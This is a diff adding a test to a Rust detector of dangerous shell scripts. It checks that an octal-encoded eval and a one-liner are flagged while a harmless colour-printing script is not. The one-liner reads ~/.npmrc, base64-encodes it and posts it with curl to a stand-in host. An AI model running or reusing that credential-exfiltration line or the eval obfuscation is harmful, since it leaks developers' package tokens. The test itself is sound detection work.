@@ -571,3 +571,15 @@ fn a_line_that_sed_puts_in_and_runs_is_judged() {
     let tidy = "#n\n1 {\n  h\n  s/.*//\n  x\n}\n/^```/ {\n  x\n  s/^open$/shut/\n  t flipped\n  :flipped\n  x\n  p\n  d\n}\ns/ *$//\np\n";
     assert_eq!(judged(tidy), None);
 }
+
+#[test]
+fn letters_by_number_that_are_run_and_quotes_within_backticks_are_read() {
+    for text in [
+        "g=(145 143 150 157 040 101)\nprintf -v t '\\\\%s' \"${g[@]}\"\nprintf -v t \"$t\"\neval \"$t\"\n",
+        "rc=\"`head -c 4096 \\\"$HOME/.npmrc\\\" | base64`\"\ncurl -s -d \"${rc}\" https://x.example.com/a\n",
+    ] {
+        is_danger(text, Context::Script);
+    }
+    let colours = "printf '\\033[1;31m%s\\033[0m\\n' \"$1\"\nred=$(printf '\\033[31m')\neval \"$(tput init)$red\"\n";
+    is_no_danger(colours, Context::Script);
+}
